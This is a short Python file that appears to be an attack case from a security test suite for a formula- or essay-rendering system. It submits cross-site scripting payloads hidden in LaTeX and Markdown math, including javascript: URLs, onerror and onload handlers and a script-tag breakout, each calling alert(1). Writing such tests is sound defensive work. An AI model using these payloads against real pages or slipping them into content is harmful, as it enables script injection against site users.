"""Formulas with script URLs, and tags between the dollar signs.

Success: active content in a page.
"""

TEXT = r"""
$\href{javascript:alert(1)}{x}$ $$\unicode{<img src=x onerror=alert(1)>}$$
$</script><script>alert(1)</script>$ \begin{equation}<img src=x onerror=alert(1)>\end{equation}
$`<svg onload=alert(1)>`$ <div>$\style{background:url(javascript:alert(1))}{x}$</div>
"""


def attack(submission):
    submission.add(TEXT, kind="markdown")
    submission.answer("essay", TEXT)
